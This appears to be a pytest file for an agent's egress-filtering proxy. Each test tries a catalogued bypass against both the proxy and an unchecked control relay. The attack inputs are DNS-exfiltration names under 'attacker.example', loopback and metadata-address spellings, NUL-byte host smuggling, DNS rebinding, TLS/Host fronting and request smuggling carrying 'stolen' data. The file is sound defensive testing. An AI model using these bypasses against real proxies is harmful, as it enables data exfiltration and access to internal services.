"""Attacks of the catalogue (A66-A77) through the proxy, each with a control that shows that it works.

The control is a relay without checks in the same world, or rules that allow what the attack wants. Attacks without a
proxy are tried in the real sandbox, in `test_proxy_sandbox`.
"""

import socket

import anyio
import anyio.abc
import pytest
from proxy_world import (
    PUBLIC,
    PUBLIC_TOO,
    Host,
    World,
    a_host,
    careless_proxy,
    client_hello,
    everything,
    own_address,
    proxying,
)

from donewhen.engines.external.network.dial import DIALER
from donewhen.engines.external.network.hosts import Rules
from donewhen.engines.external.network.proxy import ConnectionLog, serve_proxy

pytestmark = pytest.mark.anyio
RULES = Rules(hosts=("api.example", "*.cdn.example", "xn--bcher-kva.example"))
LOOPBACK_SPELLINGS = (
    *("127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.0.0.1.", "127.8.8.8", "0", "0.0.0.0"),
    *("[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[::7f00:1]"),
)
NOT_PUBLIC = (
    *("127.0.0.1", "10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", "169.254.169.254", "0.0.0.0", "224.0.0.1"),
    *("::1", "fe80::1", "fd00:ec2::254", "::ffff:127.0.0.1", "64:ff9b::a9fe:a9fe", "2002:c0a8:101::1", "ff02::1"),
    *("2001:0:101:101::5601:5601", "255.255.255.255", "198.18.0.1", "fe80::1%lo"),
)


class Patient(Host):
    """Receive everything before answering."""

    async def handle(self, stream: anyio.abc.ByteStream) -> None:
        self.heard = await everything(stream)
        await stream.send(self.answer)


def connect_to(target: str) -> bytes:
    return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode("latin-1")


# -- A67: names that are requests to a name server --


async def test_a_host_that_is_not_allowed_is_not_resolved() -> None:
    stolen = "c2VjcmV0.attacker.example"
    world = World({stolen: [PUBLIC]}, {PUBLIC: 9})
    async with proxying(RULES, world) as door:
        for request in (
            connect_to(f"{stolen}:443"),
            f"GET http://{stolen}/ HTTP/1.1\r\nHost: {stolen}\r\n\r\n".encode(),
        ):
            answer = await door.ask(request)
            assert answer.startswith(b"HTTP/1.1 403 ")
            assert answer.endswith(b"donewhen: %b is not a host that this agent may reach\n" % stolen.lower().encode())
    assert world.asked == world.dialled == []
    async with a_host() as attacker:
        world = World({stolen: [PUBLIC]}, {PUBLIC: attacker.port})
        async with careless_proxy(world) as door, door.tunnel(f"{stolen}:443"):
            assert world.asked == [stolen]


# -- A68: the same host in another spelling --


@pytest.mark.parametrize("host", LOOPBACK_SPELLINGS)
async def test_the_loopback_is_refused_in_every_spelling(host: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as daemon:
        port = daemon.getsockname()[1]
        for rules in (RULES, Rules(anything_public=True, ports=(port,))):
            async with proxying(rules, real=DIALER) as door:
                assert (await door.ask(connect_to(f"{host}:{port}"))).startswith(b"HTTP/1.1 403 ")
                assert (await door.entry()).verdict == "refused"
        assert_nobody_called(daemon)


@pytest.mark.parametrize("host", ["127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0", "[127.0.0.1]"])
async def test_without_the_checks_every_spelling_of_the_loopback_is_reachable(host: str) -> None:
    async with a_host() as daemon, careless_proxy(World()) as door, door.tunnel(f"{host}:{daemon.port}") as (stream, _):
        await stream.send(b"hello")
        assert await everything(stream) == daemon.answer


@pytest.mark.parametrize(
    "host", ["API.EXAMPLE", "api.example.", "Api.Example.", "a.CDN.example.", "XN--BCHER-KVA.example"]
)
async def test_an_allowed_host_is_allowed_in_every_spelling_and_resolved_in_one(host: str) -> None:
    name = host.lower().removesuffix(".")
    async with a_host() as beyond:
        world = World({name: [PUBLIC]}, {PUBLIC: beyond.port})
        async with proxying(RULES, world) as door, door.tunnel(f"{host}:443") as (stream, head):
            assert head.startswith(b"HTTP/1.1 200 ")
            await stream.send(client_hello(name))
            assert await everything(stream) == beyond.answer
    assert world.asked == [name]


@pytest.mark.parametrize(
    "host", ["api.example.evil", "evilapi.example", "cdn.example", "xcdn.example", "api.example.."]
)
async def test_a_host_that_looks_like_an_allowed_one_is_refused(host: str) -> None:
    async with proxying(RULES) as door:
        assert (await door.ask(connect_to(f"{host}:443")))[:12] in (b"HTTP/1.1 403", b"HTTP/1.1 400")
    assert door.world.asked == []


# -- A69: names that two parsers read differently --


@pytest.mark.parametrize("letter", ["\0", "\r", "\n", " ", "\t", "@", "\\", "%00", "%", "/", "#", "?", "\x7f", "ü"])
async def test_a_host_name_with_an_invalid_character_is_a_bad_request(letter: str) -> None:
    for name in (f"evil.example{letter}.cdn.example", f"evil.example{letter}a.cdn.example"):
        async with proxying(RULES) as door:
            assert (await door.ask(connect_to(f"{name}:443"))).startswith(b"HTTP/1.1 400 ")
            absolute = f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n".encode("latin-1")
            assert (await door.ask(absolute))[:12] in (b"HTTP/1.1 400", b"HTTP/1.1 403")
        assert door.world.asked == [] and door.world.dialled == []


async def test_without_the_checks_a_name_is_cut_at_its_nul_character() -> None:
    async with a_host() as attacker:
        world = World({"evil.example": [PUBLIC]}, {PUBLIC: attacker.port})
        async with careless_proxy(world) as door, door.tunnel("evil.example\0.cdn.example:443") as (stream, _):
            await stream.send(b"stolen")
            await everything(stream)
    assert attacker.heard == b"stolen"


# -- A70: an allowed name with another meaning --


@pytest.mark.parametrize("address", NOT_PUBLIC)
async def test_an_allowed_name_with_an_address_that_is_not_public_is_refused(address: str) -> None:
    for addresses in ([address], [PUBLIC, address]):
        world = World({"api.example": addresses}, {address: 9, PUBLIC: 9})
        async with proxying(RULES, world) as door:
            answer = await door.ask(connect_to("api.example:443"))
        assert answer.startswith(b"HTTP/1.1 403 ") and b"not a public address" in answer
        assert world.dialled == []


async def test_an_allowed_name_with_the_address_of_this_machine_is_refused() -> None:
    world = World({"api.example": [own_address()]})
    async with proxying(RULES, world) as door:
        assert (await door.ask(connect_to("api.example:443"))).startswith(b"HTTP/1.1 403 ")
    assert world.dialled == []


async def test_without_the_checks_an_allowed_name_leads_to_the_loopback() -> None:
    async with a_host() as daemon:
        world = World({"api.example": ["127.0.0.1"]})
        async with careless_proxy(world) as door, door.tunnel(f"api.example:{daemon.port}") as (stream, _):
            await stream.send(b"x")
            assert await everything(stream) == daemon.answer


async def test_a_name_is_resolved_once_and_the_checked_address_is_dialled() -> None:
    """A name server that answers differently the second time is asked only once."""

    class Rebinding(World):
        async def resolve(self, host: str, port: int) -> list[str]:
            self.names = {host: ["127.0.0.1"] if self.asked else [PUBLIC]}
            return await super().resolve(host, port)

    async with a_host() as beyond:
        world = Rebinding(leads_to={PUBLIC: beyond.port})
        async with proxying(RULES, world) as door:
            await door.ask(b"GET http://api.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n")
    assert world.asked == ["api.example"]
    assert world.dialled == [(PUBLIC, 80)]
    assert door.log[0].address == PUBLIC
    assert await world.resolve("api.example", 80) == ["127.0.0.1"]


# -- A71: an allowed host as a front for another --


@pytest.mark.parametrize("name", ["evil.example", "api.example.evil", "www.api.example", "127.0.0.1x", "a b", None])
async def test_tls_for_another_host_does_not_go_through_a_tunnel(name: str | None) -> None:
    async with a_host() as front:
        world = World({"api.example": [PUBLIC]}, {PUBLIC: front.port})
        async with proxying(RULES, world) as door, door.tunnel("api.example:443") as (stream, _):
            await stream.send(client_hello(name))
            assert await everything(stream) == bytes.fromhex("15030300020231"), "an alert, and no more"
        assert front.heard == b""
        assert (door.log[0].verdict, door.log[0].reason) == ("refused", "TLS for a host other than api.example")
        assert door.log[0].bytes_up == 0
        async with careless_proxy(world) as door, door.tunnel("api.example:443") as (stream, _):
            await stream.send(client_hello(name))
            await everything(stream)
        assert front.heard[:3] == b"\x16\x03\x01"


async def test_a_tunnel_to_an_address_needs_no_server_name_but_a_wrong_one_is_refused() -> None:
    async with a_host() as beyond:
        world = World(leads_to={PUBLIC: beyond.port})
        async with proxying(Rules(hosts=(PUBLIC,)), world) as door:
            async with door.tunnel(f"{PUBLIC}:443") as (stream, _):
                await stream.send(client_hello(None))
                assert await everything(stream) == beyond.answer
            beyond.heard = b""
            async with door.tunnel(f"{PUBLIC}:443") as (stream, _):
                await stream.send(client_hello("evil.example"))
                await everything(stream)
    assert beyond.heard == b""


@pytest.mark.parametrize("words", [b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"SSH-2.0-evil\r\n", b"\x16\x02\0"])
@pytest.mark.parametrize("port", [443, 80])
async def test_data_that_is_not_tls_does_not_go_through_a_tunnel(words: bytes, port: int) -> None:
    async with a_host() as front:
        world = World({"api.example": [PUBLIC]}, {PUBLIC: front.port})
        async with proxying(RULES, world) as door, door.tunnel(f"api.example:{port}") as (stream, _):
            await stream.send(words)
            assert b"donewhen: only TLS may go through a tunnel to api.example" in await everything(stream)
        assert front.heard == b"" and door.log[0].verdict == "refused"
        async with careless_proxy(world) as door, door.tunnel(f"api.example:{port}") as (stream, _):
            await stream.send(words)
            await everything(stream)
        assert front.heard == words


async def test_an_unencrypted_request_names_one_host() -> None:
    request = b"GET http://api.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    async with a_host() as front:
        world = World({"api.example": [PUBLIC]}, {PUBLIC: front.port})
        async with proxying(RULES, world) as door:
            assert (await door.ask(request)).startswith(b"HTTP/1.1 400 ")
        assert front.heard == b""
        async with careless_proxy(world) as door:
            await door.ask(request)
        assert b"Host: evil.example" in front.heard


# -- A73, A74: nothing allowed, and the loopback as a target --


async def test_with_empty_rules_the_proxy_refuses_every_host() -> None:
    async with a_host() as beyond:
        world = World({"api.example": [PUBLIC]}, {PUBLIC: beyond.port})
        request = b"GET http://api.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n"
        async with proxying(Rules(), world) as door:
            assert (await door.ask(request)).startswith(b"HTTP/1.1 403 ")
            assert (await door.ask(connect_to(f"{PUBLIC}:443"))).startswith(b"HTTP/1.1 403 ")
        assert world.asked == world.dialled == []
        async with proxying(RULES, world) as door:
            assert (await door.ask(request)).startswith(b"HTTP/1.1 200 ")


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", socket.gethostname()])
async def test_the_proxy_connects_to_a_local_port_only_if_it_is_named(host: str) -> None:
    async with a_host() as daemon:
        for rules in (RULES, Rules(anything_public=True, ports=(daemon.port,))):
            async with proxying(rules, real=DIALER) as door:
                assert (await door.ask(connect_to(f"{host}:{daemon.port}")))[:12] != b"HTTP/1.1 200"
        assert daemon.heard == b""
        named = Rules(targets=frozenset({("127.0.0.1", daemon.port)}))
        async with proxying(named, real=DIALER) as door, door.tunnel(f"127.0.0.1:{daemon.port}") as (stream, _):
            await stream.send(b"x")
            assert await everything(stream) == daemon.answer


# -- A75: writing to a host that may only be read --


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "get"])
async def test_only_read_requests_go_unencrypted_to_an_allowed_host(method: str) -> None:
    request = f"{method} http://api.example/push HTTP/1.1\r\nHost: api.example\r\n\r\n".encode()
    async with a_host() as beyond:
        world = World({"api.example": [PUBLIC]}, {PUBLIC: beyond.port})
        async with proxying(RULES, world) as door:
            answer = await door.ask(request)
        assert answer.startswith(b"HTTP/1.1 403 ") and answer.endswith(f"{method} is not forwarded\n".encode())
        assert beyond.heard == b""
        assert door.log[0].request == f"{method} http://api.example/push"
        async with proxying(Rules(targets=frozenset({("api.example", 80)})), world) as door:
            assert (await door.ask(request)).startswith(b"HTTP/1.1 200 ")


@pytest.mark.parametrize(
    "rest",
    [
        b"Content-Length: 6\r\n\r\nstolen",
        b"Transfer-Encoding: chunked\r\n\r\n6\r\nstolen\r\n0\r\n\r\n",
        b"Content-Length: 0\r\nContent-Length: 6\r\n\r\nstolen",
        b"\r\nPOST http://api.example/ HTTP/1.1\r\nHost: api.example\r\nContent-Length: 6\r\n\r\nstolen",
    ],
)
async def test_a_read_request_has_no_body_and_no_data_after_it(rest: bytes) -> None:
    request = b"GET http://api.example/ HTTP/1.1\r\nHost: api.example\r\n" + rest
    async with a_host() as beyond:
        world = World({"api.example": [PUBLIC]}, {PUBLIC: beyond.port})
        async with proxying(RULES, world) as door:
            await door.ask(request)
        assert b"stolen" not in beyond.heard
    async with a_host(Patient()) as beyond:
        world = World({"api.example": [PUBLIC]}, {PUBLIC: beyond.port})
        async with careless_proxy(world) as door, await door.connect() as stream:
            await stream.send(request)
            await stream.send_eof()
            await everything(stream)
    assert b"stolen" in beyond.heard


async def test_the_log_shows_bytes_host_and_address_of_a_connection() -> None:
    async with a_host(Host(b"HTTP/1.1 200 OK\r\n\r\n" + b"x" * 1000)) as beyond:
        world = World({"a.cdn.example": [PUBLIC_TOO]}, {PUBLIC_TOO: beyond.port})
        async with proxying(RULES, world) as door:
            await door.ask(b"GET http://a.cdn.example/count?secret HTTP/1.1\r\nHost: a.cdn.example\r\n\r\n")
    entry = door.log[0]
    assert (entry.request, entry.reason) == ("GET http://a.cdn.example/count", "*.cdn.example is allowed")
    assert (entry.host, entry.port, entry.address) == ("a.cdn.example", 80, PUBLIC_TOO)
    assert (entry.bytes_up, entry.bytes_down) == (len(beyond.heard), 1019)


# -- A77: a broken proxy --


async def test_a_broken_proxy_lets_nothing_through() -> None:
    """Here its log cannot be written; any unexpected error ends the proxy and every connection."""

    def full(entry: ConnectionLog) -> None:
        raise MemoryError(entry.host)

    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    open_before = await anyio.connect_tcp("127.0.0.1", port)
    with pytest.raises(ExceptionGroup) as broke:
        async with anyio.create_task_group() as tasks:
            tasks.start_soon(serve_proxy, listener, RULES, full)
            async with await anyio.connect_tcp("127.0.0.1", port) as stream:
                await stream.send(connect_to("evil.example:443"))
                await everything(stream)
            await anyio.sleep_forever()
    assert broke.group_contains(MemoryError)
    assert await everything(open_before) == b""
    await open_before.aclose()
    with pytest.raises(OSError):
        await anyio.connect_tcp("127.0.0.1", port)


def assert_nobody_called(daemon: socket.socket) -> None:
    daemon.setblocking(False)
    with pytest.raises(BlockingIOError):
        daemon.accept()
